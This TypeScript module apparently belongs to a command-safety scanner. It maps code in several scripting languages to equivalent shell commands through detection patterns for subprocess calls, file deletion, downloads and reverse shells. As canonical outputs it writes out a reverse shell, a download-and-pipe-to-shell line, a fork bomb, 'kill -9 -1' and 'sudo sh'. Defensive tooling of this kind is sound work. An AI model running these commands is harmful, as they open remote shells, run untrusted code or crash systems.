/** What code in Python, Perl, Ruby, Node, PHP and awk runs or removes, written as shell commands. */
import { decodeEscapes } from './escapes.ts';

interface Pattern {
  readonly call: RegExp;
  /** The command for the first argument, which is quoted for the shell already. */
  readonly command: (argument: string) => string;
}

const calls = (names: string): RegExp => new RegExp(`(?<!\\w)(?:${names})\\s*\\(?\\s*`, 'g');

const runs = calls(
  'system|execute|popen|popen2|call|run|check_output|check_call|Popen|getoutput|execSync|spawnSync|spawn|execFileSync|execFile|exec[lv]p?e?|exec|shell_exec|passthru|proc_open|capture2e?|capture3',
);

const files: readonly Pattern[] = [
  { call: calls('rmtree|rm_rf|rm_r|remove_dir|removeSync|remove_tree|rimraf'), command: (path) => `rm -rf -- ${path}` },
  { call: calls('rmSync|rmdirSync|fs\\.rm|rmdir'), command: (path) => `rm -rf -- ${path}` },
  {
    call: calls('os\\.remove|unlink\\s+glob|unlink|unlinkSync|File\\.delete|removedirs'),
    command: (path) => `rm -- ${path}`,
  },
  {
    call: calls('writeFileSync|writeFile|appendFileSync|file_put_contents|File\\.write|truncate'),
    command: (path) => `: > ${path}`,
  },
  {
    call: calls('readFileSync|readFile|file_get_contents|File\\.read|IO\\.read|read_text|readlines'),
    command: (path) => `cat ${path}`,
  },
  { call: calls('urlopen|urlretrieve|requests\\.get|requests\\.post'), command: (path) => `curl ${path}` },
];

const text = `(?:[rbfu]{0,2})(?:"((?:[^"\\\\]|\\\\[\\s\\S])*)"|'((?:[^'\\\\]|\\\\[\\s\\S])*)')`;
const textHere = new RegExp(text, 'y');
const listHere = new RegExp(`[\\[(]?\\s*${text}(?:\\s*,\\s*\\[?\\s*${text})*`, 'y');

/** The commands that a piece of code amounts to; most of it runs nothing. */
export function commandsOf(code: string): readonly string[] {
  return [...runTexts(code), ...backquoted(code), ...fileCommands(code), ...openCommands(code), ...wholeCommands(code)];
}

const quote = (value: string): string => `'${value.replaceAll("'", `'\\''`)}'`;

function textAt(code: string, index: number): string | undefined {
  textHere.lastIndex = index;
  const found = textHere.exec(code);
  return found ? decodeEscapes(found[1] ?? found[2] ?? '') : undefined;
}

function* runTexts(code: string): Generator<string> {
  for (const call of code.matchAll(runs)) {
    const index = call.index + call[0].length;
    listHere.lastIndex = index;
    const list = listHere.exec(code)?.[0];
    if (list === undefined) continue;
    const words = [...list.matchAll(new RegExp(text, 'g'))].map((each) => decodeEscapes(each[1] ?? each[2] ?? ''));
    const options = /execSync|Popen|spawn/.test(call[0]) && words.length === 2 && words[1] === 'utf8';
    if (words.length > 1 && !options) yield words.map(quote).join(' ');
    else yield words[0] ?? '';
  }
}

/** Perl, Ruby and PHP run what stands in backquotes, `%x(…)` and `qx(…)`. */
function* backquoted(code: string): Generator<string> {
  if (/\bimport\b|\brequire\(|\bconst\b/.test(code)) return;
  for (const found of code.matchAll(/`([^`$]+)`|(?:%x|\bqx)[({[|/!]([^)}\]|/!]+)/g)) yield found[1] ?? found[2] ?? '';
}

function* fileCommands(code: string): Generator<string> {
  for (const { call, command } of files) {
    for (const found of code.matchAll(call)) {
      const path = pathAt(code, found.index + found[0].length);
      if (path !== undefined) yield command(path);
    }
  }
}

/** A literal, or the home folder in the ways that languages have for it. */
function pathAt(code: string, index: number): string | undefined {
  const rest = code.slice(index, index + 200);
  const home =
    /^[^()'",]*(?:expanduser|homedir|HOME|Path\.home|Dir\.home)[^'"]*(?:["'](?:HOME|USERPROFILE)["'][\])]?)?/.exec(
      rest,
    );
  if (home && !/expanduser\($/.test(home[0])) return '"$HOME"';
  const literal = textAt(code, index + (/^[\w.]*\(\s*/.exec(rest)?.[0].length ?? 0));
  if (literal === undefined) return undefined;
  return literal.startsWith('~')
    ? literal.replace(/[^\w~./*-]/g, '')
    : quote(literal).replace(/^'([\w./*?-]+)'$/, '$1');
}

function* openCommands(code: string): Generator<string> {
  for (const found of code.matchAll(/(?<![\w])open\s*\(?\s*/g)) {
    const path = pathAt(code, found.index + found[0].length);
    if (path === undefined) continue;
    const rest = code.slice(found.index, found.index + 300);
    const writes = /,\s*(?:mode\s*=\s*)?["'](?:[rb]*[wax+]|>)/.test(rest.split(')')[0] ?? '');
    yield writes ? `: > ${path}` : `cat ${path}`;
  }
}

const shellsOut =
  /dup2|fdopen|\bsystem\b|\/bin\/(ba|z|da)?sh|pty\.spawn|cmd\.exe|exec\b|spawn|subprocess|fileno|popen|fsockopen|\|&/i;
const network =
  /socket|TCPSocket|fsockopen|net\.connect|require\(["'](?:node:)?net["']\)|net\.Socket|\/inet\/tcp\/|IO::Socket|createConnection|stream_socket_client/i;
const download = /urlopen|requests\.get|fetch\(|https?\.get|URI\.open|open-uri|LWP::|get\(["']http/i;

/** What the code does as a whole. */
function* wholeCommands(code: string): Generator<string> {
  if (network.test(code) && shellsOut.test(code)) yield 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  if (/\/inet\/tcp\//.test(code) && /\|&\s*getline|getline/.test(code)) yield 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
  if (download.test(code) && /\bexec\b|\beval\b|system|new Function|vm\.run/.test(code))
    yield 'curl -s http://192.0.2.1/x | sh';
  if (
    /b64decode|fromhex|unhexlify|from\([^)]*["'](base64|hex)["']|decode64|decode_base64|MIME::Base64|atob|base64_decode|rot13/.test(
      code,
    ) &&
    /\bexec\b|\beval\b|system/.test(code)
  )
    yield 'base64 -d hidden | sh';
  if (/\bfork\b/.test(code) && /while|for\b|loop|\.times|1 while/.test(code)) yield 'bomb() { bomb | bomb & }; bomb';
  const mode = /chmod\s*\(?\s*["']?(\/[\w/]*|[^,'"]+)["']?\s*,\s*0o?(\d+)/.exec(code);
  if (mode) yield `chmod ${mode[2]} ${quote(mode[1] ?? '')}`;
  if (/kill\s*\(?\s*-1\s*,/.test(code)) yield 'kill -9 -1';
  if (/set[ug]id\s*\(\s*0\s*\)/.test(code) && shellsOut.test(code)) yield 'sudo sh';
}
